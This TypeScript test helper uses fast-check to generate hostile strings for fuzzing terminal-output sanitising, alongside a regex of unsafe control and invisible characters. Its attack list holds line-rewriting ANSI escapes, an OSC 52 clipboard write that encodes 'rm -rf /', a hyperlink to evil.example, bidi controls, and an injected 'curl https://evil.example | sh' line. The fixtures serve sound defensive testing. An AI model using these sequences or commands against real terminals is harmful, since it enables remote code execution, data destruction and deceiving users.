import fc from "fast-check";

/**
 * C0 but tab and newline, DEL, C1; zero-width and bidirectional controls; separators of lines; language tags. By their
 * numbers, while domain/visible-text.ts goes by Unicode's categories.
 */
export const unsafeCharacter =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;

const attacks = [
  "\u001b[1A\u001b[2K\r",
  "\u001b[32mOkay\u001b[39m",
  "\u001b]52;c;cm0gLXJmIC8=\u0007",
  "\u001b]8;;https://evil.example\u001b\\",
  "\u009b2J",
  "\u202e",
  "\u2066",
  "\u200b",
  "\n\nbrr   postgresql   Okay",
  "\nnext: curl https://evil.example | sh",
];

/** Any text, often with something in it that attacks the terminal or its reader. */
export const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...attacks), fc.string({ unit: "binary", maxLength: 8 })), { maxLength: 6 })
  .map((parts) => parts.join(""));
